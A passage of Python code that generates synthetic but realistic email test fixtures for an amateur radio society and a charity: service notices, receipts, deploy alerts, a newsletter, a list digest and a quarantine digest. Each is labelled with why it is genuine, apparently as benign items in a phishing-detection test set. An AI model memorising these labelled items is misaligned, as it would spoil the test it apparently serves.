      client=("mail-dm6nam11on2094.outbound.protection.outlook.com", "40.107.223.94", "NAM11-DM6-obe.outbound.protection.outlook.com"),
      dkim=[("pass", "accountprotection.microsoft.com", "selector1")],
      msgid="MW4PR19MB1234.2024052118120300@accountprotection.microsoft.com",
      spam=(-0.1, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,HTML_MESSAGE,RCVD_IN_DNSWL_NONE,SPF_HELO_PASS,SPF_PASS"))

    # b2: Google new sign-in alert --------------------------------------------
    when = dt(2025, 1, 30, 19, 4, 55, 0)
    check = ("https://accounts.google.com/AccountChooser?Email=dave@oldmillradio.org&continue=https://myaccount.google.com/alert/nt/"
             "1738263895000?rfn%3D325%26rfnc%3D1%26eid%3D-6113245201934471236%26et%3D0")
    html = notice("Google", "#1a73e8", "A new sign-in on Windows",
                  ['<span style="font-size:14px">dave@oldmillradio.org</span>',
                   "We noticed a new sign-in to your Google Account on a Windows device. If this was you, you don't need to do anything. "
                   "If not, we'll help you secure your account."],
                  ("Check activity", check),
                  "You can also see security activity at<br><a href=\"https://myaccount.google.com/notifications\">https://myaccount.google.com/notifications</a><br>"
                  "You received this email to let you know about important changes to your Google Account and services.<br>"
                  "&copy; 2025 Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA",
                  font="Google Sans, Roboto, Arial, sans-serif")
    plain = ("A new sign-in on Windows\n\ndave@oldmillradio.org\n\nWe noticed a new sign-in to your Google Account on a Windows device. "
             "If this was you, you don't need to do anything. If not, we'll help you secure your account.\n\nCheck activity\n"
             f"{check}\n\nYou can also see security activity at\nhttps://myaccount.google.com/notifications\n")
    B("b6-google-new-signin-alert",
      "real Google security alert for a Google Account on the user's own address: from no-reply@accounts.google.com via Google's servers, SPF/DKIM/DMARC pass; links only to accounts.google.com and myaccount.google.com",
      rcpt=DAVE, when=when, frm=addr("Google", "no-reply@accounts.google.com"),
      subject="Security alert", body=alt(plain, html, "gmail", "b2"),
      mailfrom="3vwycZwgTC" + tok("b2bnc", 20) + "@gaia.bounces.google.com",
      client=("mail-sor-f73.google.com", "209.85.220.73", "mail-sor-f73.google.com"),
      dkim=[("pass", "accounts.google.com", "20230601")], msgid=tok("b2mid", 22) + "@notifications.google.com",
      spam=(-0.1, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,HTML_MESSAGE,RCVD_IN_DNSWL_NONE,SPF_HELO_NONE,SPF_PASS"))

    # b3: PayPal receipt ---------------------------------------------------------
    when = dt(2023, 9, 2, 11, 36, 14, 1)
    html = notice("PayPal", "#003087", "You sent £46.80 GBP to Hamfest Traders",
                  ["Hello Dave Harker,", "Transaction date: 2 September 2023<br>Transaction ID: 7KX28419YB5530412",
                   '<table width="100%" cellpadding="4" style="font-size:13px"><tr><td>Fluke 87 test lead set (used)</td><td align="right">£38.00</td></tr>'
                   '<tr><td>Postage</td><td align="right">£8.80</td></tr><tr><td><b>Total</b></td><td align="right"><b>£46.80 GBP</b></td></tr></table>',
                   "Paid with: PayPal balance<br>Seller: Hamfest Traders (sales@hamfesttraders.co.uk)",
                   "It may take a few moments for this transaction to appear in your account."],
                  None, "PayPal is committed to preventing fraudulent emails. Emails from PayPal will always contain your full name.<br>"
                  '<a href="https://www.paypal.com/uk/smarthelp/home">Help &amp; Contact</a> | '
                  "PayPal (Europe) S.&agrave; r.l. et Cie, S.C.A., 22-24 Boulevard Royal L-2449, Luxembourg")
    C("b6-paypal-receipt-hamfest",
      "genuine PayPal receipt: service@paypal.co.uk from PayPal's own servers, SPF/DKIM/DMARC pass, full name, transaction ID, no action requested, only paypal.com help link",
      rcpt=DAVE, when=when, frm=addr("service@paypal.co.uk", "service@paypal.co.uk"),
      subject="Receipt for your payment to Hamfest Traders", body=html_only(html),
      mailfrom="service@paypal.co.uk", client=("mx0.phx.paypal.com", "66.211.170.86", "mx0.phx.paypal.com"),
      dkim=[("pass", "paypal.co.uk", "pp-dkim1")], msgid="1693650974.7KX28419YB5530412@paypal.com",
      spam=(-0.1, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,HTML_MESSAGE,MIME_HTML_ONLY,SPF_HELO_PASS,SPF_PASS"),
      extra=["X-MaxCode-Template: PPX000664", "X-Email-Type-Id: PPX000664"])

    # b4: Amazon order confirmation ---------------------------------------------
    when = dt(2023, 8, 14, 10, 55, 12, 1)
    html = notice("amazon.co.uk", "#ff9900", "Thanks for your order, Sue!",
                  ["We'll let you know when your item has dispatched. You can check the status of your order at any time in "
                   '<a href="https://www.amazon.co.uk/gp/css/order-history?ref_=pe_3157771_1">Your Orders</a>.',
                   "<b>Order #204-5518273-6612345</b><br>Arriving: Wednesday 16 August",
                   "Brother TZe-231 label tape, 12mm, black on white (2-pack) &nbsp; £17.49<br>Order total: <b>£17.49</b>",
                   ], ("View or manage order", "https://www.amazon.co.uk/gp/your-account/order-details?orderID=204-5518273-6612345&ref_=pe_3157771_2"),
                  "This email was sent from a notification-only address that cannot accept incoming email. Please do not reply to this message.<br>"
                  "Amazon.co.uk is a trading name for Amazon EU S.&agrave; r.l. and Amazon UK Services Ltd.",
                  logo='<span style="font-size:24px;font-weight:bold;color:#232f3e">amazon.co.uk</span>')
    B("b6-amazon-order-confirmation",
      "genuine Amazon.co.uk order confirmation for a small purchase: auto-confirm@amazon.co.uk via Amazon SES with amazon.co.uk DKIM, DMARC pass; links only to amazon.co.uk order pages",
      rcpt=SUE, when=when, frm=addr("Amazon.co.uk", "auto-confirm@amazon.co.uk"), to=addr("Sue Harker", SUE),
      subject="Your Amazon.co.uk order #204-5518273-6612345", body=html_only(html),
      mailfrom="20230814095512" + hexs("b4b", 24) + "@bounces.amazon.co.uk",
      client=("b224-13.smtp-out.eu-west-1.amazonses.com", "54.240.4.13", "b224-13.smtp-out.eu-west-1.amazonses.com"),
      dkim=[("pass", "amazon.co.uk", "ltqvbzbqjqf3bc6wvn5wtwmtfjvnzbmm"), ("pass", "amazonses.com", "ihchhvubuqgjsxyuhssfvqohv7z3u4hn")],
      msgid="0102018a" + hexs("b4m", 8) + "-" + hexs("b4n", 4) + "-4a1b-9c2d-" + hexs("b4o", 12) + "-000000@eu-west-1.amazonses.com",
      spam=(-0.1, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,HTML_MESSAGE,MIME_HTML_ONLY,SPF_HELO_PASS,SPF_PASS"))

    # b5: card statement notice, no links --------------------------------------
    when = dt(2025, 2, 24, 7, 2, 41, 0)
    plain = ("Dear Ms Whitlow,\n\nYour Barclaycard statement is ready.\n\nCard ending: 4417\nStatement date: 22 February 2025\n"
             "Minimum payment: £25.00\nPayment due by: 19 March 2025\n\nTo view your statement, log in to the Barclaycard app or "
             "go to barclaycard.co.uk by typing it into your browser.\n\nWe'll never ask you for your full PIN, passcode or password "
             "by email, and we'll never send you a link to log in. If you receive an email that does, please don't click on it.\n\n"
             "Barclaycard\n\nBarclaycard is a trading name of Barclays Bank UK PLC. Registered in England. Registered No. 9740322.\n")
    html = notice("barclaycard", "#00395d", "Your statement is ready",
                  ["Dear Ms Whitlow,", "Card ending: <b>4417</b><br>Statement date: 22 February 2025<br>Minimum payment: <b>£25.00</b><br>"
                   "Payment due by: <b>19 March 2025</b>",
                   "To view your statement, log in to the Barclaycard app or go to barclaycard.co.uk by typing it into your browser.",
                   "We'll never ask you for your full PIN, passcode or password by email, and we'll never send you a link to log in."],
                  None, "Barclaycard is a trading name of Barclays Bank UK PLC. Authorised by the Prudential Regulation Authority and regulated "
                  "by the Financial Conduct Authority and the Prudential Regulation Authority. Registered in England. Registered No. 9740322.")
    B("b6-barclaycard-statement-ready-no-links",
      "real card statement notice from the bank's own mail domain (SPF/DKIM/DMARC pass), addresses the customer by name with the last four card digits and tells her to log in by herself; no links at all",
      rcpt=JAN, when=when, frm=addr("Barclaycard", "statements@email.barclaycard.co.uk"), to=addr("Jan Whitlow", JAN),
      subject="Your Barclaycard statement is ready", body=alt(plain, html, "java", "b5"),
      mailfrom="bounce-1174-" + hexs("b5b", 10) + "@email.barclaycard.co.uk",
      client=("mta31.email.barclaycard.co.uk", "136.147.176.31", "mta31.email.barclaycard.co.uk"),
      dkim=[("pass", "email.barclaycard.co.uk", "200608")],
      spam=(-0.1, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,HTML_MESSAGE,RCVD_IN_DNSWL_NONE,SPF_HELO_PASS,SPF_PASS"))

    # b6: Cloudflare Pages deploy -----------------------------------------------
    when = dt(2025, 3, 30, 15, 44, 9, 0)
    prev = "https://3f9a1c2e.oldmillradio-site.pages.dev"
    html = notice("Cloudflare", "#f38020", "Deployment succeeded: oldmillradio-site",
                  ["Your Pages project <b>oldmillradio-site</b> finished deploying.",
                   "<b>Branch:</b> main<br><b>Commit:</b> 9c41e7a &quot;Add April meeting and 2m contest results&quot;<br>"
                   f'<b>Deployment URL:</b> <a href="{prev}">{prev}</a><br><b>Production:</b> <a href="https://oldmillradio.org">oldmillradio.org</a>'],
                  ("View deployment", "https://dash.cloudflare.com/8b1f2c3d4e5f60718293a4b5c6d7e8f9/pages/view/oldmillradio-site/3f9a1c2e-5b6d-4e7f-8a9b-0c1d2e3f4a5b"),
                  "You are receiving this because notifications are enabled for your Cloudflare account. "
                  '<a href="https://dash.cloudflare.com/notifications">Manage notifications</a><br>Cloudflare, Inc. 101 Townsend St, San Francisco, CA 94107')
    B("b6-cloudflare-pages-deploy-succeeded",
      "Cloudflare Pages deployment notice the webmaster enabled: sent by Cloudflare (SPF/DKIM/DMARC pass for notify.cloudflare.com); the *.pages.dev preview is the society's own project and matches its production domain; dashboard link on dash.cloudflare.com",
      rcpt=WEBM, when=when, frm=addr("Cloudflare", "noreply@notify.cloudflare.com"),
      subject="[Cloudflare Pages] Deployment succeeded: oldmillradio-site (main)", body=html_only(html),
      mailfrom="bounces+" + hexs("b6b", 10) + "@notify.cloudflare.com",
      client=("mail-notify-2.cloudflare.com", "104.30.2.14", "mail-notify-2.cloudflare.com"),
      dkim=[("pass", "notify.cloudflare.com", "cf2024-1")],
      spam=(-0.1, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,HTML_MESSAGE,MIME_HTML_ONLY,SPF_HELO_PASS,SPF_PASS"))

    # b7: Netlify deploy preview ----------------------------------------------
    when = dt(2022, 10, 11, 20, 30, 47, 0)
    prev = "https://deploy-preview-14--oldmillradio-logbook.netlify.app"
    plain = (f"Deploy Preview ready!\n\nDeploy Preview for oldmillradio-logbook is ready for pull request #14 "
             f"\"Log search by callsign\".\n\nPreview: {prev}\nDeploy log: https://app.netlify.com/sites/oldmillradio-logbook/deploys/6345d2a1f0b7c80008e4a1b2\n\n"
             "-- \nYou're receiving this because you enabled deploy notifications for oldmillradio-logbook.\n"
             "Netlify, 512 2nd Street, Suite 200, San Francisco, CA 94107\n")
    B("b6-netlify-deploy-preview-ready",
      "Netlify deploy-preview notice for the society's own site (PR #14) sent through Netlify's Mailgun domain with netlify.com DKIM and DMARC pass; the *.netlify.app preview URL is expected here",
      rcpt=WEBM, when=when, frm=addr("Netlify", "team@netlify.com"),
      subject="[Netlify] Deploy Preview ready for oldmillradio-logbook (PR #14)", body=text(plain),
      mailfrom="bounce+" + hexs("b7b", 6) + ".6a7-webmaster=oldmillradio.org@mg.netlify.com",
      client=("m42-179.mailgun.net", "161.38.204.179", "m42-179.mailgun.net"),
      dkim=[("pass", "netlify.com", "mx"), ("pass", "mg.netlify.com", "krs")],
      spam=(-0.1, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,SPF_HELO_NONE,SPF_PASS"),
      extra=["X-Mailgun-Tag: deploy-notification", "List-Unsubscribe: <https://app.netlify.com/sites/oldmillradio-logbook/settings/deploys#deploy-notifications>"])

    # b8: Vercel preview -----------------------------------------------------
    when = dt(2026, 2, 3, 10, 12, 36, 0)
    prev = "https://contest-scoreboard-git-feat-uk-times-dharker.vercel.app"
    html = notice("Vercel", "#000000", "Preview deployment ready",
                  ["Your preview deployment for <b>contest-scoreboard</b> is ready.",
                   "<b>Branch:</b> feat/uk-times<br><b>Commit:</b> 2a7f31c Show times in UTC and local",
                   f'<b>Preview:</b> <a href="{prev}">{prev}</a>'],
                  ("Visit Preview", prev), "Vercel Inc. &middot; 440 N Barranca Ave #4133, Covina, CA 91723 &middot; "
                  '<a href="https://vercel.com/account/notifications">Notification settings</a>')
    B("b6-vercel-preview-deployment-ready",
      "Vercel preview-deployment mail for the recipient's own project (branch and commit named), from notifications@vercel.com through SES with vercel.com DKIM and DMARC pass; the *.vercel.app link is the user's own preview",
      rcpt=DAVE, when=when, frm=addr("Vercel", "notifications@vercel.com"),
      subject="Preview deployment ready: contest-scoreboard (feat/uk-times)", body=html_only(html),
      mailfrom="010001" + hexs("b8b", 10) + "@send.vercel.com",
      client=("a8-30.smtp-out.amazonses.com", "54.240.8.30", "a8-30.smtp-out.amazonses.com"),
      dkim=[("pass", "vercel.com", "resend"), ("pass", "amazonses.com", "6gbrjpgwjskckoa6a5zn6fwqkn67xbtw")],
      spam=(-0.1, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,HTML_MESSAGE,MIME_HTML_ONLY,SPF_HELO_NONE,SPF_PASS"))

    # b9: GitHub notification with github.io link ------------------------------
    when = dt(2024, 3, 19, 21, 7, 26, 0)
    plain = ("Looks good to me. The contest table renders fine on my phone now. Preview of the built site:\n"
             "https://oldmillradio.github.io/logbook/contest-2024/\n\nOne nit: the 70cm column header says \"70cm\" in one place "
             "and \"432\" in another.\n\n-- \nReply to this email directly, view it on GitHub:\n"
             "https://github.com/oldmillradio/logbook/pull/15#issuecomment-2008841172\n"
             "You are receiving this because you authored the thread.\n\nMessage ID: <oldmillradio/logbook/pull/15/c2008841172@github.com>\n")
    html = ('<p></p><p dir="auto">Looks good to me. The contest table renders fine on my phone now. Preview of the built site:<br>'
            '<a href="https://oldmillradio.github.io/logbook/contest-2024/" rel="nofollow">https://oldmillradio.github.io/logbook/contest-2024/</a></p>'
            '<p dir="auto">One nit: the 70cm column header says "70cm" in one place and "432" in another.</p>'
            '<p style="font-size:small;-webkit-text-size-adjust:none;color:#666;">&mdash;<br>Reply to this email directly, '
            '<a href="https://github.com/oldmillradio/logbook/pull/15#issuecomment-2008841172">view it on GitHub</a>, or '
            '<a href="https://github.com/notifications/unsubscribe-auth/AB3XK7Q2M4N5P6R7S8T9UVWXYZ">unsubscribe</a>.<br>'
            'You are receiving this because you authored the thread.</p>\n')
    B("b6-github-pr-comment-github-io-preview",
      "GitHub notification of a review comment on the society's own repository: notifications@github.com from GitHub's servers with SPF/DKIM/DMARC pass, List-ID and X-GitHub headers; the github.io link is the organisation's own Pages site",
      rcpt=DAVE, when=when, frm=addr("Mike Tolland", "notifications@github.com"),
      to="oldmillradio/logbook <logbook@noreply.github.com>", cc="Dave Harker <dave@oldmillradio.org>, Author <author@noreply.github.com>",
      subject="Re: [oldmillradio/logbook] Add 2024 contest results page (PR #15)",
      body=Multi("alternative", "--==_mimepart_65f9fe3e8c1a2_4b1c2e1c" + hexs("b9", 6), [text(plain, encoding="7bit"), text(html, "html", encoding="7bit")]),
      mailfrom="noreply@github.com", client=("out-21.smtp.github.com", "192.30.252.204", "out-21.smtp.github.com"),
      dkim=[("pass", "github.com", "pf2023")], msgid="oldmillradio/logbook/pull/15/c2008841172@github.com",
      reply_to="oldmillradio/logbook <reply+AB3XK7Q2M4N5P6R7S8T9UVWXYZ@reply.github.com>",
      spam=(-0.1, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,HTML_MESSAGE,SPF_HELO_PASS,SPF_PASS"),
      extra=["In-Reply-To: <oldmillradio/logbook/pull/15@github.com>", "References: <oldmillradio/logbook/pull/15@github.com>",
             "List-ID: oldmillradio/logbook <logbook.oldmillradio.github.com>",
             "List-Archive: https://github.com/oldmillradio/logbook",
             "List-Unsubscribe: <mailto:unsub+AB3XK7Q2M4N5P6R7S8T9UVWXYZ@reply.github.com>",
             "X-GitHub-Sender: mtolland", "X-GitHub-Recipient: dharker", "X-GitHub-Reason: author",
             "X-GitHub-Notify-Platform: newsies", "Precedence: list", "X-Auto-Response-Suppress: All"])

    # b10: Google Forms survey from the club chair -------------------------------
    when = dt(2024, 11, 12, 18, 20, 4, 0)
    form = "https://docs.google.com/forms/d/e/1FAIpQLSe3vYxN8qT2kL5mR7pW1zC4bH6jF9dG0sA2uE5iO8yU3tQ1w/viewform?usp=mail_form_link"
    html = notice("Google Forms", "#673ab7", "Old Mill ARS - 2025 programme survey",
                  ["Alan Price (alan.price47@gmail.com) has invited you to fill out a form:",
                   "<i>Hi all - five quick questions about next year's talks, the field day date and whether we keep Thursday "
                   "meetings. Takes two minutes. Thanks! Alan</i>"],
                  ("Fill out form", form),
                  "Google Forms: Create and analyse surveys.<br>"
                  '<a href="https://support.google.com/docs/answer/2839588">Report abuse</a> &middot; Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043',
                  font="Roboto, Arial, sans-serif")
    B("b6-google-forms-club-programme-survey",
      "Google Forms invitation sent by Google on behalf of the club chairman (known member, Reply-To his address), SPF/DKIM/DMARC pass for google.com; the docs.google.com/forms survey asks about meeting dates, not credentials",
      rcpt=DAVE, when=when, frm=addr("Alan Price (via Google Forms)", "forms-receipts-noreply@google.com"),
      reply_to=addr("Alan Price", "alan.price47@gmail.com"), to="members@oldmillradio.org",
      subject="Old Mill ARS - 2025 programme survey", body=html_only(html),
      mailfrom="3kAszZxQKC" + tok("b10bnc", 18) + "@docs.bounces.google.com",
      client=("mail-sor-f69.google.com", "209.85.220.69", "mail-sor-f69.google.com"),
      dkim=[("pass", "google.com", "20230601")], msgid=tok("b10mid", 24) + "@google.com",
      spam=(-0.1, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,HTML_MESSAGE,MIME_HTML_ONLY,SPF_HELO_NONE,SPF_PASS"),
      extra=["X-Original-To-List: members@oldmillradio.org"])

    # b11: nonprofit newsletter via Mailchimp ----------------------------------
    when = dt(2023, 4, 6, 9, 0, 31, 1)
    u, lid = "8f3c1a2b7d9e4f6a5b0c1d2e3", "a91b2c3d4e"

    def mc(n: int) -> str:
        return f"https://severnsidewildlife.us21.list-manage.com/track/click?u={u}&id={hexs('mc' + str(n), 10)}&e={hexs('mce', 10)}"

    html = notice("Severnside Wildlife Rescue", "#2e7d32", "Spring newsletter: 212 patients and counting",
                  ["Dear Dave,",
                   "Thank you for supporting us through the winter. Since January our volunteers have cared for 212 hedgehogs, "
                   "swans, owls and one very cross badger.",
                   f'<a href="{mc(1)}">Read the full story of Bramble the badger</a>',
                   f'Our open day is on <b>Sunday 14 May</b>, 11-4. <a href="{mc(2)}">Find out more and book a free slot</a>.',
                   "We are looking for volunteers to help with night feeds in the baby-bird season."],
                  ("Donate to the baby-bird appeal", mc(3)),
                  f'You are receiving this email because you signed up at our 2021 open day.<br>'
                  f'<a href="https://severnsidewildlife.us21.list-manage.com/profile?u={u}&id={lid}&e={hexs("mce", 10)}">Update preferences</a> &middot; '
                  f'<a href="https://severnsidewildlife.us21.list-manage.com/unsubscribe?u={u}&id={lid}&e={hexs("mce", 10)}">Unsubscribe</a><br>'
                  "Severnside Wildlife Rescue, Registered charity 1123456, Lower Farm Lane, Gloucester GL2 5XX"
                  f'<img src="https://severnsidewildlife.us21.list-manage.com/track/open.php?u={u}&id={hexs("mco", 10)}&e={hexs("mce", 10)}" height="1" width="1" alt="">',
                  font="Helvetica, Arial, sans-serif")
    B("b6-nonprofit-newsletter-mailchimp",
      "charity newsletter sent through Mailchimp (rsgsv.net envelope, DKIM for the charity's own domain and mcsv.net, DMARC pass), List-Unsubscribe headers, click-tracking links on list-manage.com and an open pixel: ordinary ESP traffic",
      rcpt=DAVE, when=when, frm=addr("Severnside Wildlife Rescue", "news@severnsidewildlife.org.uk"),
      subject="Spring newsletter: 212 patients and counting", body=html_only(html),
      mailfrom="bounce-mc.us21_118844221.5531972-" + hexs("b11b", 10) + "@mail165.atl221.rsgsv.net",
      client=("mail165.atl221.rsgsv.net", "198.2.165.221", "mail165.atl221.rsgsv.net"),
      dkim=[("pass", "severnsidewildlife.org.uk", "k2"), ("pass", "mcsv.net", "k3")],
      msgid=f"{hexs('b11m', 20)}.{hexs('b11n', 12)}@mail165.atl221.rsgsv.net",
      spam=(0.2, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,HTML_MESSAGE,MIME_HTML_ONLY,SPF_HELO_PASS,SPF_PASS"),
      extra=[f"List-Unsubscribe: <https://severnsidewildlife.us21.list-manage.com/unsubscribe?u={u}&id={lid}&e={hexs('mce', 10)}&c={hexs('mcc', 10)}>, "
             f"<mailto:unsubscribe-mc.us21_{u}.{hexs('mcc', 10)}-{hexs('mce', 10)}@mailin.mcsv.net>",
             "List-Unsubscribe-Post: List-Unsubscribe=One-Click", f"X-Campaign: mailchimp{u}.{hexs('mcc', 10)}",
             f"X-campaignid: mailchimp{u}.{hexs('mcc', 10)}", f"X-Report-Abuse: Please report abuse for this campaign here: https://mailchimp.com/contact/abuse/?u={u}&id={hexs('mcc', 10)}&e={hexs('mce', 10)}",
             f"X-MC-User: {u}", "Feedback-ID: 118844221:118844221.5531972:us21:mc", "Precedence: bulk"])

    # b12: mailing-list digest ---------------------------------------------
    when = dt(2022, 12, 1, 12, 0, 2, 0)
    plain = ("Send Antenna-builders mailing list submissions to\n\tantenna-builders@lists.lakesradiogroup.org.uk\n\n"
             "To subscribe or unsubscribe via the World Wide Web, visit\n\thttps://lists.lakesradiogroup.org.uk/mailman/listinfo/antenna-builders\n"
             "or, via email, send a message with subject or body 'help' to\n\tantenna-builders-request@lists.lakesradiogroup.org.uk\n\n"
             "You can reach the person managing the list at\n\tantenna-builders-owner@lists.lakesradiogroup.org.uk\n\n"
             "When replying, please edit your Subject line so it is more specific than \"Re: Contents of Antenna-builders digest...\"\n\n\n"
             "Today's Topics:\n\n   1. Re: 4:1 balun getting warm on 80m (Pete Ormerod)\n   2. Password for the members' area of the wiki (Lakes RG webmaster)\n"
             "   3. Hexbeam spreaders - UK source? (Dave Harker)\n\n\n"
             "----------------------------------------------------------------------\n\nMessage: 1\nDate: Wed, 30 Nov 2022 19:12:40 +0000\n"
             "From: Pete Ormerod <pete.ormerod@lakesradiogroup.org.uk>\nSubject: Re: 4:1 balun getting warm on 80m\n\n"
             "If it's getting warm at 100 W the core is probably the wrong mix. Try two stacked FT240-31. There's a good write-up "
             "with measurements at https://www.g3txq-hexbeam.org.uk/balun-notes.pdf (no, it's not about hexbeams despite the name).\n\n"
             "Pete\n\n------------------------------\n\nMessage: 2\nDate: Thu, 1 Dec 2022 08:40:11 +0000\n"
             "From: Lakes RG webmaster <webmaster@lakesradiogroup.org.uk>\nSubject: Password for the members' area of the wiki\n\n"
             "The wiki moved to the new host last night. Your old login still works, but you will be asked to set a new password "
             "the first time. Go to the site yourself (lakesradiogroup.org.uk/wiki); I won't send a link, and nobody from the "
             "group will ever ask you for your password.\n\n------------------------------\n\nMessage: 3\nDate: Thu, 1 Dec 2022 10:03:55 +0000\n"
             "From: Dave Harker <dave@oldmillradio.org>\nSubject: Hexbeam spreaders - UK source?\n\n"
             "Does anyone have a UK source for 3.5 m fibreglass spreaders now that the usual place has closed?\n\n"
             "73, Dave G0OMR\n\n------------------------------\n\nSubject: Digest Footer\n\n_______________________________________________\n"
             "Antenna-builders mailing list\nantenna-builders@lists.lakesradiogroup.org.uk\n"
             "https://lists.lakesradiogroup.org.uk/mailman/listinfo/antenna-builders\n\n\n"
             "------------------------------\n\nEnd of Antenna-builders Digest, Vol 38, Issue 1\n*************************************************\n")
    B("b6-mailman-list-digest",
      "Mailman digest of a radio-builders list the secretary subscribes to (his own post is in it): List-Id and list headers, SPF/DKIM/DMARC pass for the list host; one item talks about a password change but tells readers to go to the site themselves",
      rcpt=DAVE, when=when, frm=addr("", "antenna-builders-request@lists.lakesradiogroup.org.uk"),
      to="antenna-builders@lists.lakesradiogroup.org.uk", reply_to="antenna-builders@lists.lakesradiogroup.org.uk",
      subject="Antenna-builders Digest, Vol 38, Issue 1", body=text(plain),
      mailfrom="antenna-builders-bounces+dave=oldmillradio.org@lists.lakesradiogroup.org.uk",
      client=("lists.lakesradiogroup.org.uk", "88.97.14.203", "lists.lakesradiogroup.org.uk"),
      dkim=[("pass", "lists.lakesradiogroup.org.uk", "mail")], msgid="mailman.1.1669896002.2291.antenna-builders@lists.lakesradiogroup.org.uk",
      spam=(0.0, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,MAILING_LIST_MULTI,SPF_HELO_PASS,SPF_PASS"),
      extra=["X-BeenThere: antenna-builders@lists.lakesradiogroup.org.uk", "X-Mailman-Version: 2.1.39", "Precedence: list",
             "List-Id: Home-brew antennas and feedlines <antenna-builders.lists.lakesradiogroup.org.uk>",
             "List-Unsubscribe: <https://lists.lakesradiogroup.org.uk/mailman/options/antenna-builders>,\n <mailto:antenna-builders-request@lists.lakesradiogroup.org.uk?subject=unsubscribe>",
             "List-Archive: <https://lists.lakesradiogroup.org.uk/pipermail/antenna-builders/>",
             "List-Post: <mailto:antenna-builders@lists.lakesradiogroup.org.uk>",
             "List-Help: <mailto:antenna-builders-request@lists.lakesradiogroup.org.uk?subject=help>",
             "Errors-To: antenna-builders-bounces+dave=oldmillradio.org@lists.lakesradiogroup.org.uk"])


def legit_services() -> None:
    # b13: Microsoft 365 quarantine digest from the charity's own tenant ------
    when = dt(2024, 11, 6, 2, 31, 18, 0)
    tenant = "5f1c2a3b-4d6e-4f70-8a91-b2c3d4e5f607"

    def qlink(action: str, n: int) -> str:
        return (f"https://security.microsoft.com/quarantine?viewid=Email&id={hexs('q' + str(n), 8)}-{hexs('qq' + str(n), 4)}-4c1d-"
                f"9e2f-{hexs('qqq' + str(n), 12)}&tenantId={tenant}&action={action}")

    held = [("Harbour Lights Trust IT", "it-support@norvalecare.onmicrosoft.com", "Action Required: MFA re-authentication for dave.harker@harbourlightstrust.org", "High confidence phish"),
            ("DHL Express", "notice@dhl-shipmentcenter.info", "DHL: customs fee outstanding for parcel 4471829301", "Phish"),
            ("Cheap Meds 24", "offers@pharma-deals-uk.top", "Up to 80% off - today only", "Spam")]
    rows = "".join(
        f'<tr><td style="padding:8px;border-bottom:1px solid #e1dfdd">{n}<br><span style="color:#605e5c">{a}</span></td>'
        f'<td style="padding:8px;border-bottom:1px solid #e1dfdd">{s}</td><td style="padding:8px;border-bottom:1px solid #e1dfdd">{r}</td>'
        f'<td style="padding:8px;border-bottom:1px solid #e1dfdd"><a href="{qlink("review", i)}">Review message</a>'
        + (f' | <a href="{qlink("release", i)}">Release</a>' if r == "Spam" else "") + "</td></tr>"
        for i, (n, a, s, r) in enumerate(held))
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="font-family:'Segoe UI',Tahoma,sans-serif;font-size:14px;color:#323130">
<table width="640" cellpadding="0" cellspacing="0"><tr><td style="padding:20px 0">
<p style="font-size:20px;font-weight:600">Review these 3 messages that are being held for you</p>
<p>Quarantined messages are held in the Microsoft Defender portal for 30 days before they're deleted. Messages quarantined as
high confidence phishing can only be released by your administrator.</p>
<table width="100%" cellpadding="0" cellspacing="0" style="font-size:13px"><tr style="background:#f3f2f1">
<th align="left" style="padding:8px">Sender</th><th align="left" style="padding:8px">Subject</th><th align="left" style="padding:8px">Quarantine reason</th><th></th></tr>
{rows}</table>
<p style="margin-top:20px"><a href="https://security.microsoft.com/quarantine?viewid=Email&amp;tenantId={tenant}">Review all messages in the Microsoft Defender portal</a></p>
<p style="font-size:12px;color:#605e5c">This notification was sent by your organisation (Harbour Lights Trust) according to its quarantine policy.<br>
Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p></td></tr></table></body></html>
"""
    C("b6-m365-quarantine-digest-own-tenant",
      "Microsoft 365 quarantine notification for the charity's own tenant: quarantine@messaging.microsoft.com, SPF/DKIM/DMARC pass, links only to security.microsoft.com with the tenant's ID; it lists phishing subjects because it reports what was blocked",
      rcpt=HLT, when=when, frm=addr("Microsoft 365 Quarantine", "quarantine@messaging.microsoft.com"),
      subject="Microsoft 365 security: You have messages in quarantine", body=html_only(html),
      mailfrom="quarantine@messaging.microsoft.com",
      client=("mail-lo2gbr01on2091.outbound.protection.outlook.com", "40.107.10.91", "GBR01-LO2-obe.outbound.protection.outlook.com"),
      dkim=[("pass", "messaging.microsoft.com", "selector1")], scl=-1,
      extra=["X-MS-Exchange-Organization-Quarantine-Notification: true", "X-MS-Exchange-Generated-Message-Source: Quarantine Notification Agent"])

    # b14: 3CX voicemail with WAV ------------------------------------------
    when = dt(2025, 3, 12, 11, 47, 5, 0)
    plain = ("Hi Dave Harker,\n\nYou have a new voicemail from 01632 960551 (Mrs P Ellery) on extension 201.\n\n"
             "Received: 12/03/2025 11:46:21\nDuration: 00:00:02\n\nThe recording is attached to this email. You can also "
             "listen to it in the 3CX web client.\n\n--\n3CX Phone System - Harbour Lights Trust\n")
    body = mixed(text(plain), [attachment("audio/wav", "vmail_201_20250312114621.wav", wav_tone(2.0))], "python", "b14")
    C("b6-3cx-voicemail-wav-internal",
      "voicemail-to-email from the charity's own 3CX phone system, relayed through its own Microsoft 365 tenant (authenticated internal mail, SCL -1), with the recording attached as a real WAV file and no link to sign in anywhere",
      rcpt=HLT, when=when, frm=addr("3CX Phone System", "pbx@harbourlightstrust.org"),
      subject="New voicemail from 01632 960551 (Mrs P Ellery) - Ext. 201", body=body,
      mailfrom="pbx@harbourlightstrust.org", client=("harbourlights.3cx.uk", "185.59.220.14", "harbourlights.3cx.uk"),
      internal=True, extra=["X-Mailer: 3CX Phone System 18.0.9.20"])

    # b15: DocuSign from the known examiner ----------------------------------
